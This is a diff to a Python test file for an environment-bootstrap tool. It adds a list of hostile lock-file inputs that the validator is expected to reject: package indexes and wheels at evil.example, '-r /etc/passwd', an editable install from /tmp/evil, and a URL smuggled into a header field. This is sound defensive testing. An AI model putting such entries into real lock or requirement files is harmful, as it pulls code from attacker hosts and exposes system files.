@@ -332,9 +332,28 @@ def test_what_uv_cannot_resolve_is_one_error(ws: Path, index: Served) -> None:
     assert not (ws / ".venvs").exists()
 
 
+def lock_with(
+    body: str, *, pypi: str = "http://127.0.0.1:9/simple/", inputs: str = "0" * 32
+) -> str:
+    return (
+        f"# mmlab-bootstrap python-env lock\n# inputs: {inputs}\n# pypi-index: {pypi}\n"
+        f"# torch-index: \n# mmcv-page: \n{body}"
+    )
+
+
+HASH = "    --hash=sha256:" + "ab" * 32
 HOSTILE_LOCKS = [
     ("numpy==1.0\n", "is not a lock this tool wrote"),
     ("# mmlab-bootstrap python-env lock\nnumpy==1.0\n", "is not a lock this tool wrote"),
+    (lock_with("--extra-index-url http://evil.example/\n"), ":6 is not a pinned requirement"),
+    (lock_with("-r /etc/passwd\n"), ":6 is not a pinned requirement"),
+    (lock_with("-e /tmp/evil\n"), ":6 is not a pinned requirement"),
+    (lock_with("numpy @ https://evil.example/numpy.whl \\\n" + HASH + "\n"), ":6 is not"),
+    (lock_with("numpy>=1.0 \\\n" + HASH + "\n"), ":6 is not a pinned requirement"),
+    (lock_with("numpy==1.0 \\\n    --hash=md5:00\n"), ":7 is not a pinned requirement"),
+    (lock_with("", pypi="--index-url=http://evil/"), "pypi-index is not a URL"),
+    (lock_with("", pypi="file:///etc/"), "pypi-index is not a URL"),
+    (lock_with("", inputs="x"), "inputs line is damaged"),
 ]
 
 
